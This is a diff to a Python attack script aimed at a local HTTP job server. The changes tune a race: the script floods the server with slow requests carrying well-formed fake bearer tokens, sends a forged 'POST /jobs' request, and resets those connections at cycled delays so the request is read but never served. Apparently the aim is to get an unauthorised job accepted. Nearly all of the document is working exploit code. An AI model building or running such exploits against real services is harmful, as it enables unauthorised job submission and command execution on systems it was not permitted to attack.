@@ -10,6 +10,7 @@ the kernel gives to programs it makes those few likely that it asks from. It pri
 
 from __future__ import annotations
 
+import itertools
 import os
 import resource
 import socket
@@ -18,15 +19,17 @@ import sys
 import time
 
 CROWD = 850
-AHEAD = 300
+AHEAD = 60
 FREE_PORTS = 16
-# From sending to the reset: the request has been read by then.
-READ_S = 0.05
+# From sending to the reset, in turn: the request has to have been read by then, and not to have been served.
+READ_S = (0.03, 0.06, 0.09, 0.12)
 # How long its request may wait for its turn, and somebody for the port.
 WAIT_S = 0.15
 RESET = struct.pack("ii", 1, 0)
 ASK = b'POST /jobs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 36\r\n\r\n{"name": "forged","command": "true"}'
-CROWD_ASK = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * AHEAD
+# A token that is well formed is looked up, so this takes a thread longest of all that anybody may send.
+TOKEN = b"zs_abcdefabcdef_" + b"a" * 64
+CROWD_ASK = (b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + TOKEN + b"\r\n\r\n") * AHEAD
 
 
 def hold_ports(free: set[int]) -> None:
@@ -107,9 +110,11 @@ def main() -> None:
     crowd(port, CROWD - CROWD // 2)
     tries = 0
     until = time.monotonic() + seconds
-    while time.monotonic() < until:
+    for read_s in itertools.cycle(READ_S):
+        if time.monotonic() > until:
+            break
         asked = [one for one in (attempt(port, own) for own in sorted(free)) if one is not None]
-        time.sleep(READ_S)
+        time.sleep(read_s)
         for one in asked:
             one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
             one.close()
